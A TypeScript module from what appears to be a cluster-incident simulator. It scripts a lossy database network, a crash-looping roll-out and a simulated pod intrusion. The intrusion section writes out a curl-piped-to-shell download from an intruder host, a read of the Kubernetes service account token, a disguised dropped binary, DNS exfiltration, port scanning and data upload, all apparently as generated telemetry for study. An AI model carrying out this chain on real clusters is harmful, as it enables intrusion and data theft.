// What goes wrong on request: a lossy network at the payments database, a roll-out that runs out of memory, an intruder in the web shop.
// Level-triggered: `apply` brings the world to what is wanted, however often it is called.
import { intruder } from "./catalog.ts";
import { callConnect, touchFile } from "./deeds.ts";
import type { Lifecycle } from "./lifecycle.ts";
import { ask } from "./names.ts";
import {
  carry,
  close,
  connect,
  endOfPod,
  endOutside,
  errors,
  fail,
  sample,
  sendFirst,
  type Connection,
} from "./network.ts";
import { aboutNode, aboutPod } from "./notes.ts";
import { nodeObject } from "./objects.ts";
import { clientHello, httpRequest, httpResponse } from "./packets.ts";
import { runCommand } from "./processes.ts";
import { appOf, later, readyPods, type Pod, type SimProcess, type Story, type World } from "./state.ts";

export interface Stories {
  apply(wanted: Readonly<Story>, timeMs: number): void;
}

const attackEveryMs = 150_000;
/** Long enough to be seen ready and to be asked; then memory is gone. */
const outOfMemoryAfterMs = 6000;
const badVersion = "2.0.0";

export function createStories(world: World, lifecycle: Lifecycle): Stories {
  const { story } = world;
  const teller = { world, lifecycle };
  /** Rises with each start, so that what an older one planned does nothing. */
  let attacks = 0;
  let failures = 0;

  return {
    apply(wanted, timeMs) {
      if (wanted.failure !== story.failure) {
        const before = story.failure;
        story.failure = wanted.failure;
        failures += 1;
        const mine = failures;
        if (before === "slow-payments") showDatabaseNode(world, undefined);
        if (before === "crash-loop") rollOut(teller, { version: "", outOfMemoryAfterMs: 0 }, timeMs);
        if (wanted.failure === "slow-payments") losePackets(teller, timeMs, () => failures === mine);
        if (wanted.failure === "crash-loop") rollOut(teller, { version: badVersion, outOfMemoryAfterMs }, timeMs);
      }
      if (wanted.attack === story.attack) return;
      story.attack = wanted.attack;
      attacks += 1;
      const mine = attacks;
      if (wanted.attack) attackAgain(world, timeMs + 500, () => attacks === mine);
    },
  };
}

interface Teller {
  readonly world: World;
  readonly lifecycle: Lifecycle;
}

/** Of recommendations; without a version back to the one it began with. */
function rollOut({ world, lifecycle }: Teller, change: Change, timeMs: number): void {
  const app = appOf(world, "recommendations");
  lifecycle.rollOut(app, { ...change, version: change.version === "" ? app.spec.version : change.version }, timeMs);
}

interface Change {
  readonly version: string;
  readonly outOfMemoryAfterMs: number;
}

function showDatabaseNode(world: World, sinceMs: number | undefined): void {
  const [database] = appOf(world, "postgres").pods;
  if (database === undefined) return;
  const trouble =
    sinceMs === undefined
      ? undefined
      : { reason: "PacketsLost", message: "eth0: 14% of the packets of the last minute were sent again", sinceMs };
  world.objects.put("Node", nodeObject(world, database.node, trouble));
}

/** The events that say why: the node's problem detector at once, the database's probe again and again. */
function losePackets({ world, lifecycle }: Teller, timeMs: number, isOn: () => boolean): void {
  showDatabaseNode(world, timeMs);
  const say = (atMs: number): void => {
    const [database] = appOf(world, "postgres").pods;
    if (!isOn() || database === undefined) return;
    const { node } = database;
    const lost = `eth0: packets of pod ${database.namespace}/${database.name} are lost: 14% were sent again in the last minute`;
    lifecycle.note(
      aboutNode(node),
      { type: "Warning", reason: "PacketsLost", message: lost, source: "node-problem-detector", host: node.name },
      atMs,
    );
    const probe = 'Readiness probe failed: command timed out: "pg_isready -U postgres" timed out after 1s';
    lifecycle.note(
      aboutPod(database),
      { type: "Warning", reason: "Unhealthy", message: probe, source: "kubelet", host: node.name },
      atMs + 300,
    );
    later(world, atMs + 20_000, say);
  };
  later(world, timeMs + 1000, say);
}

function attackAgain(world: World, timeMs: number, isOn: () => boolean): void {
  later(world, timeMs, (atMs) => {
    if (!isOn()) return;
    const pods = readyPods(appOf(world, "web"));
    // Always the same victim while it lives.
    const [victim] = pods.toSorted((left, right) => (left.name < right.name ? -1 : 1));
    if (victim !== undefined) intrude(world, victim, atMs);
    attackAgain(world, atMs + attackEveryMs, isOn);
  });
}

/** One episode: a look around, download and start of a dropped program, a scan, a look at the database, data sent out. About a minute. */
function intrude(world: World, pod: Pod, timeMs: number): void {
  const { main } = pod;
  if (main === undefined) return;
  const run = (parent: SimProcess, words: readonly string[], atMs: number, lastsMs: number): SimProcess =>
    runCommand(world, pod, { parent, path: words[0] ?? "", arguments: words, startMs: atMs, endMs: atMs + lastsMs }) ??
    parent;
  const url = `http://${intruder.download.name}/update.sh`;
  const shell = run(main, ["/bin/sh", "-c", `curl -fsS ${url} | sh`], timeMs, 9000);
  const curl = run(shell, ["/usr/bin/curl", "-fsS", url], timeMs + 40, 900);
  download(world, pod, curl, timeMs + 60);
  const script = run(shell, ["/bin/sh"], timeMs + 45, 8900);
  lookAround(world, pod, (words, atMs) => run(script, words, atMs, 15), timeMs + 300);
  const fetch = run(script, ["/usr/bin/curl", "-fsS", "-o", dropped.path, `${url}.bin`], timeMs + 700, 400);
  touchFile(world, pod, fetch, {
    ...dropped,
    deed: "create",
    call: "openat",
    flags: 0o1101,
    mode: 0o644,
    atMs: timeMs + 760,
  });
  const chmod = run(script, ["/bin/chmod", "+x", dropped.path], timeMs + 1200, 15);
  touchFile(world, pod, chmod, { ...dropped, deed: "chmod", call: "fchmodat", mode: 0o755, atMs: timeMs + 1206 });
  const program = run(script, [dropped.path, "--pool", intruder.control.name, "--quiet"], timeMs + 1400, 62_000);
  control(world, pod, program, timeMs + 1600);
  scan(world, pod, program, timeMs + 4000);
  lookAtDatabase(world, pod, program, timeMs + 16_000);
  sendOut(world, pod, program, timeMs + 22_000);
}

const dropped = { path: "/tmp/.cache/kworkerd", isUpper: true } as const;
const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";

/** Who am I, where am I, what runs here; and the pod's token. */
function lookAround(
  world: World,
  pod: Pod,
  run: (words: readonly string[], atMs: number) => SimProcess,
  timeMs: number,
): void {
  for (const [index, name] of ["id", "hostname", "uname", "ps", "env"].entries())
    run([`/usr/bin/${name}`], timeMs + index * 40);
  const cat = run(["/bin/cat", tokenPath], timeMs + 240);
  touchFile(world, pod, cat, { deed: "open", call: "openat", path: tokenPath, isUpper: false, atMs: timeMs + 246 });
}

function download(world: World, pod: Pod, process: SimProcess, timeMs: number): void {
  const { download: from } = intruder;
  const client = endOfPod(pod, process);
  const knownMs = ask(world, pod, { name: from.name, type: "A", asker: client }, timeMs);
  const address = from.addresses[0];
  callConnect(world, pod, process, { address, port: 80, atMs: knownMs });
  const connection = connect(
    world,
    { client, server: endOutside(address), address, port: 80, targetPort: 80 },
    knownMs,
  );
  const request = { method: "GET", host: from.name, path: "/update.sh", agent: "curl/8.5.0", traceId: "", spanId: "" };
  sendFirst(world, connection, "client", { payload: httpRequest(request), timeMs: knownMs + 20 });
  sendFirst(world, connection, "server", { payload: httpResponse(200, 48_120), timeMs: knownMs + 61 });
  carry(connection, { sent: 140, received: 48_300 });
  close(world, connection, knownMs + 180);
}

/** Strange questions: long labels carry data out, most names are unknown. */
function control(world: World, pod: Pod, process: SimProcess, timeMs: number): void {
  const asker = endOfPod(pod, process);
  ask(world, pod, { name: intruder.control.name, type: "A", asker }, timeMs);
  for (let index = 0; index < 6; index += 1) {
    const name = `${world.random.hex(40)}.${intruder.control.name}`;
    later(world, timeMs + 900 * index, (atMs) => void ask(world, pod, { name, type: "TXT", asker }, atMs));
  }
}

const scannedPorts = [22, 2375, 3306, 6379, 8500, 9200, 10_250, 27_017] as const;

function scan(world: World, pod: Pod, process: SimProcess, timeMs: number): void {
  const client = endOfPod(pod, process);
  const stop = timeMs + 10_000;
  let count = 0;
  const step = (atMs: number): void => {
    if (atMs > stop || pod.main === undefined) return;
    for (let each = 0; each < 4; each += 1) {
      const node = world.nodes[count % world.nodes.length];
      const address = `${node?.podPrefix ?? "10.244.1."}${10 + (Math.floor(count / world.nodes.length) % 60)}`;
      const port = scannedPorts[count % scannedPorts.length] ?? 22;
      count += 1;
      const error = world.random.next() < 0.7 ? errors.refused : errors.timedOut;
      fail(world, { client, server: endOutside(address), address, port, targetPort: port }, error, atMs + each * 30);
    }
    later(world, atMs + 200, step);
  };
  later(world, timeMs, step);
}

function lookAtDatabase(world: World, pod: Pod, process: SimProcess, timeMs: number): void {
  const database = appOf(world, "postgres");
  const client = endOfPod(pod, process);
  ask(world, pod, { name: "postgres.shop.svc.cluster.local", type: "A", asker: client }, timeMs);
  for (const delayMs of [300, 1800, 3600]) {
    later(world, timeMs + delayMs, (atMs) => {
      const [back] = readyPods(database);
      if (back === undefined || pod.main === undefined) return;
      callConnect(world, pod, process, { address: database.clusterAddress, port: 5432, atMs });
      const dial = { client, server: endOfPod(back), address: database.clusterAddress, port: 5432, targetPort: 5432 };
      const connection = connect(world, dial, atMs);
      carry(connection, { sent: 900, received: delayMs > 3000 ? 5_400_000 : 420 });
      close(world, connection, atMs + (delayMs > 3000 ? 2600 : 70));
    });
  }
}

/** A long upload, seen while it lasts. */
function sendOut(world: World, pod: Pod, process: SimProcess, timeMs: number): void {
  const { drop } = intruder;
  const client = endOfPod(pod, process);
  const knownMs = ask(world, pod, { name: drop.name, type: "A", asker: client }, timeMs);
  const address = drop.addresses[0];
  callConnect(world, pod, process, { address, port: 443, atMs: knownMs });
  const connection: Connection = connect(
    world,
    { client, server: endOutside(address), address, port: 443, targetPort: 443 },
    knownMs,
  );
  sendFirst(world, connection, "client", {
    payload: clientHello(drop.name, world.random.int(0, 1e9)),
    timeMs: knownMs + 20,
  });
  const end = (atMs: number): void => {
    pod.onEnd.delete(end);
    close(world, connection, atMs);
  };
  pod.onEnd.add(end);
  let rounds = 0;
  const step = (atMs: number): void => {
    if (!connection.isOpen) return;
    rounds += 1;
    carry(connection, { sent: world.random.int(5, 9) * 1_000_000, received: 40_000 });
    sample(world, connection, atMs);
    if (rounds >= 8) end(atMs + 300);
    else later(world, atMs + 4000, step);
  };
  later(world, knownMs + 1500, step);
}
